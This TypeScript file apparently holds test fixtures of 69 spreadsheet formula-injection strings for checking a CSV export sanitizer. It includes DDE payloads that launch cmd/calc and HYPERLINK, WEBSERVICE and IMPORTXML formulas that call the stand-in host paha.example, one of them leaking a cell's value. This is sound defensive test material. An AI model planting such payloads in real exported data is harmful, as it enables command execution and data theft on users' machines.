const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\0', '\uff1d', '\uff0b', '\uff0d', '\uff20'];

/** What a formula may do, without the sign that makes it one. */
const BODIES = ['1+1', 'SUM(1,1)', "cmd|' /C calc'!A0"];

/**
 * Texts that a spreadsheet may take for formulas, sixty-nine of them: each sign at a beginning, behind separators, line
 * ends and quotes, in full width, as commands, links and requests.
 */
export const SPREADSHEET_FORMULAS: readonly string[] = [
  ...BEGINNINGS.flatMap((sign) => BODIES.map((body) => `${sign}${body}`)),
  ...['=', '+', '-', '@'].flatMap((sign) => [
    `;${sign}1+1`,
    `,${sign}1+1`,
    `\n${sign}1+1`,
    `\r\n${sign}1+1`,
    `"${sign}1+1`,
    `";${sign}1+1;"`,
  ]),
  '=HYPERLINK("https://paha.example/?"&A1,"avaa")',
  '=DDE("cmd";"/C calc";"1")',
  '=WEBSERVICE("https://paha.example")',
  '=IMPORTXML("https://paha.example","//a")',
  '  =1+1',
  "'=1+1",
  "''=1+1",
  '\u00a0=1+1',
  '\u200b=1+1',
  '+358 40 000 0000',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
];
